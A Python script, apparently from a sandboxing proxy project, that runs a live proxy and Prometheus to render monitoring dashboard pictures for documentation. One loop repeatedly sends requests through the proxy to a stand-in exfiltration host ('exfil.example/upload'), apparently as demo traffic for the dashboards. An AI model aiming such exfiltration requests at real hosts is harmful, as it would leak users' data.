"""Pictures of the dashboards from real data: a real `serve`, a real Prometheus, and a renderer of our own.

`make pictures` writes dashboards/pictures/*.png, for docs/monitoring.md.
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
import time
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Final

from PIL import Image

from tests.cli.program import Workspace
from tests.dashboards import fleet_scene
from tests.dashboards.panels import DASHBOARDS
from tests.dashboards.renderer import PAPER, SECONDS, Source, draw
from tests.dashboards.scene import Scene, playing

OUTPUT: Final = Path(__file__).parents[2] / "dashboards/pictures"
_PALETTE: Final = 64


def _play(scene: Scene) -> None:
    """A minute and a half in which something happens."""
    scene.held.append(scene.connect(scene.echo.port))
    end = time.monotonic() + SECONDS
    number = 0
    while time.monotonic() < end:
        number += 1
        scene.round()
        for _ in range(number % 5):
            scene.serving.get("http://exfil.example/upload", headers=scene.demo)
        time.sleep(1 + (number % 3))
    scene.prometheus.scraped({"cloned-proxy", "sandbox-stand-in"})


def _play_fleet(scene: fleet_scene.FleetScene) -> None:
    """The same for a fleet: the store is away for a while, and a new version comes."""
    scene.once()
    mine = {"Proxy-Authorization": f"Bearer {scene.token}"}
    end = time.monotonic() + SECONDS
    version = 2
    while (left := end - time.monotonic()) > 0:
        scene.round()
        for each in scene.servings:
            each.get(scene.origin.url("/lease"), headers=mine)
        if version == 2 and left < SECONDS * 0.7:
            scene.store.freeze()
            version = 3
        if version == 3 and left < SECONDS * 0.4:
            scene.store.thaw()
            version = 4
            scene.publish(version)
        time.sleep(1.5)
    scene.prometheus.scraped({"cloned-proxy"})


def _shrink(path: Path) -> None:
    """A few dozen colours are enough for lines and letters."""
    with Image.open(path) as picture:
        small = picture.convert("RGB").quantize(_PALETTE)
    small.save(path, optimize=True)


def _draw(dashboard: str, source: Source) -> None:
    picture = OUTPUT / f"{dashboard}.png"
    draw(dashboard, source).savefig(picture, facecolor=PAPER)
    _shrink(picture)
    sys.stdout.write(f"{picture}\n")


def _one_proxy(workspace: Workspace, directory: Path, dashboards: Iterable[str]) -> None:
    with playing(workspace, directory, "--control", "127.0.0.1:0") as scene:
        _play(scene)
        token = json.loads(workspace.run("pair", "--api", "--read-only", "--json").stdout)["token"]
        source = Source(scene.prometheus, time.time(), scene.serving.control_port, token)
        for dashboard in dashboards:
            _draw(dashboard, source)


def _fleet(workspace: Workspace, directory: Path) -> None:
    with fleet_scene.playing(workspace, directory) as scene:
        _play_fleet(scene)
        _draw("fleet", Source(scene.prometheus, time.time()))


def main() -> None:
    """Of all dashboards, or of those that are named."""
    OUTPUT.mkdir(exist_ok=True)
    wanted = sys.argv[1:] or DASHBOARDS
    alone = [dashboard for dashboard in wanted if dashboard != "fleet"]
    if alone:
        with _workspace() as (workspace, directory):
            _one_proxy(workspace, directory, alone)
    if "fleet" in wanted:
        with _workspace() as (workspace, directory):
            _fleet(workspace, directory)


@contextmanager
def _workspace() -> Iterator[tuple[Workspace, Path]]:
    with tempfile.TemporaryDirectory(prefix="cloned-pictures-") as name:
        path = Path(name) / "ws"
        workspace = Workspace(path, {**os.environ, "CLONED_WORKSPACE": str(path)})
        try:
            yield workspace, Path(name)
        finally:
            workspace.close()


if __name__ == "__main__":
    main()
